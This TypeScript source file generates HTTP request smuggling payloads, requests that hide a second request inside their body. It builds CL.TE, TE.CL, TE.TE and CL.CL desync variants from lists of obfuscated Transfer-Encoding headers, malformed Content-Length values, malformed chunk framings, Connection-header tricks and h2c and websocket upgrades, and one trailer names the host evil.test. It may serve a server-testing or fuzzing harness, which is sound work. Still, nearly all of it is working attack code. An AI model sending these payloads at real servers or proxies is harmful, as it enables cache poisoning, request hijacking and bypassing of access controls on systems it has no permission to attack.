/** The request line with the first headers, and the request that is hidden in the body. */
type Material = { head: string; hidden: string };

/** Makes the bytes of one request in which another one is hidden. */
export type Trick = (material: Material) => string;

const chunk = (text: string) => `${Buffer.byteLength(text).toString(16)}\r\n${text}\r\n`;
const chunked = (text: string) => `${chunk(text)}0\r\n\r\n`;
const fields = (...lines: string[]) => lines.map((line) => `${line}\r\n`).join('');

/** A body whose length is plain, but whose header is said to belong to the connection alone. */
const withLength =
  (...lines: string[]): Trick =>
  ({ head, hidden }) =>
    `${head}${fields(`Content-Length: ${hidden.length}`, ...lines)}\r\n${hidden}`;

/** A chunked body, with more headers. */
const withChunks =
  (...lines: string[]): Trick =>
  ({ head, hidden }) =>
    `${head}${fields('Transfer-Encoding: chunked', ...lines)}\r\n${chunked(hidden)}`;

const namesThatSurvive = ['Content-Type', 'Content-Length', 'X-Forwarded-For', 'X-Proxy-Key'];

/** Requests that RFC 9112 frames without doubt, with every method: the body ends where it ends. */
export const plainTricks: Readonly<Record<string, Trick>> = {
  'a body with its length': withLength(),
  'a chunked body': withChunks(),
  'a chunked body in pieces, with extensions and trailers': ({ head, hidden }) => {
    const middle = Math.floor(hidden.length / 2);
    const rest = hidden.slice(middle);
    return `${head}Transfer-Encoding: chunked\r\nTrailer: Content-Length\r\n\r\n${chunk(hidden.slice(0, middle))}${rest.length.toString(16)};name="0\\r\\n"\r\n${rest}\r\n0\r\nContent-Length: 4\r\nHost: evil.test\r\n\r\n`;
  },
  'Connection names Content-Length': withLength('Connection: Content-Length'),
  'Connection names Content-Length beside keep-alive': withLength(
    'Connection: keep-alive, content-length',
  ),
  'a second Connection names Content-Length': withLength(
    'Connection: keep-alive',
    'Connection: content-length',
  ),
  'Connection names Transfer-Encoding': withChunks('Connection: Transfer-Encoding'),
  'Connection names what must survive': withLength(`Connection: ${namesThatSurvive.join(', ')}`),
  'Keep-Alive, Proxy-Connection and TE': withChunks(
    'Keep-Alive: content-length',
    'Proxy-Connection: content-length',
    'TE: trailers, chunked',
  ),
  'Expect: 100-continue': withLength('Expect: 100-continue'),
  'an upgrade to h2c': withLength(
    'Connection: Upgrade, HTTP2-Settings, close',
    'Upgrade: h2c',
    'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
  ),
  'an upgrade to a web socket': withChunks('Connection: Upgrade, close', 'Upgrade: websocket'),
  '2,100 headers before Content-Length': ({ head, hidden }) =>
    `${head}${'a:b\r\n'.repeat(2100)}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
  '2,100 headers before Transfer-Encoding': ({ head, hidden }) =>
    `${head}${'a:b\r\n'.repeat(2100)}Transfer-Encoding: chunked\r\n\r\n${chunked(hidden)}`,
};

/** Headers that one server takes for `Transfer-Encoding: chunked` and another does not. */
const disguisedEncodings = [
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: \x00chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: cHuNkEd',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding\r\n : chunked',
  'X-Folded: a\r\n Transfer-Encoding: chunked',
  'X-Folded: a\nTransfer-Encoding: chunked',
  'X-Folded: a\rTransfer-Encoding: chunked',
  ' Transfer-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding',
];

/** Values that one server takes for the length of the body and another does not. */
const disguisedLengths = (length: number): string[] => [
  `Content-Length: +${length}`,
  `Content-Length: 0x${length.toString(16)}`,
  `Content-Length: ${length}, ${length}`,
  `Content-Length: 0, ${length}`,
  `Content-Length: ${length}, 0`,
  `Content-Length: 0\r\nContent-Length: ${length}`,
  `Content-Length: ${length}\r\nContent-Length: 0`,
  `Content-Length: ${length} 0`,
  `Content-Length: -${length}`,
  `Content-Length: ${length}e0`,
  `Content-Length: ${length}.0`,
  `Content-Length: ${2n ** 64n + BigInt(length)}`,
  `Content-Length: "${length}"`,
  `Content-Length : ${length}`,
  `Content-Length:\r\n ${length}`,
  `Content-Length: 0\r\n ${length}`,
  `Content-Length: \x00${length}`,
  `X-Folded: a\nContent-Length: ${length}`,
];

/** Stands for the hidden request in the table below, and for its length in hexadecimal digits. */
const placeholders = { hidden: '<hidden>', size: '<size>' } as const;

/** Chunks that one server reads as a longer or shorter run than another. */
const disguisedChunks = [
  '0x<size>\r\n<hidden>\r\n0\r\n\r\n',
  ' <size>\r\n<hidden>\r\n0\r\n\r\n',
  '<size> \r\n<hidden>\r\n0\r\n\r\n',
  '+<size>\r\n<hidden>\r\n0\r\n\r\n',
  '-<size>\r\n<hidden>\r\n0\r\n\r\n',
  '10000000000000000\r\n<hidden>\r\n0\r\n\r\n',
  '<size>\n<hidden>\n0\n\n',
  '<size>\r<hidden>\r0\r\r',
  '<size>;a\n<hidden>\r\n0\r\n\r\n',
  '<size>;a=\r<hidden>\r\n0\r\n\r\n',
  '2\r\nxx<hidden>',
  '2\r\nxxxx0\r\n\r\n<hidden>',
  '0\n\n<hidden>',
  '0\r\n<hidden>',
  '\r\n0\r\n\r\n<hidden>',
  'g\r\n<hidden>\r\n0\r\n\r\n',
];

const withHidden = (template: string, hidden: string) =>
  template
    .replace(placeholders.size, hidden.length.toString(16))
    .replace(placeholders.hidden, () => hidden);

/** A pair of headers that contradict each other, for a body that both would end elsewhere. */
export function ambiguousTricks(hidden: string): Record<string, Trick> {
  const ended = `0\r\n\r\n${hidden}`;
  const named = (kind: string, lines: readonly string[], trick: (line: string) => Trick) =>
    Object.fromEntries(lines.map((line) => [`${kind} ${JSON.stringify(line)}`, trick(line)]));
  return {
    'CL.TE': ({ head }) =>
      `${head}Content-Length: ${ended.length}\r\nTransfer-Encoding: chunked\r\n\r\n${ended}`,
    'TE.CL': ({ head }) =>
      `${head}Transfer-Encoding: chunked\r\nContent-Length: 2\r\n\r\n${chunked(hidden)}`,
    ...named(
      'TE.TE over the length, with',
      disguisedEncodings,
      (line) =>
        ({ head }) =>
          `${head}Content-Length: ${ended.length}\r\n${line}\r\n\r\n${ended}`,
    ),
    ...named(
      'TE.TE under the length, with',
      disguisedEncodings,
      (line) =>
        ({ head }) =>
          `${head}${line}\r\nContent-Length: 2\r\n\r\n${chunked(hidden)}`,
    ),
    ...named(
      'CL.CL with',
      disguisedLengths(hidden.length),
      (line) =>
        ({ head }) =>
          `${head}${line}\r\n\r\n${hidden}`,
    ),
    ...named(
      'CL.TE with',
      disguisedLengths(ended.length),
      (line) =>
        ({ head }) =>
          `${head}${line}\r\nTransfer-Encoding: chunked\r\n\r\n${ended}`,
    ),
    ...named(
      'Chunks',
      disguisedChunks,
      (template) =>
        ({ head }) =>
          `${head}Transfer-Encoding: chunked\r\n\r\n${withHidden(template, hidden)}`,
    ),
  };
}
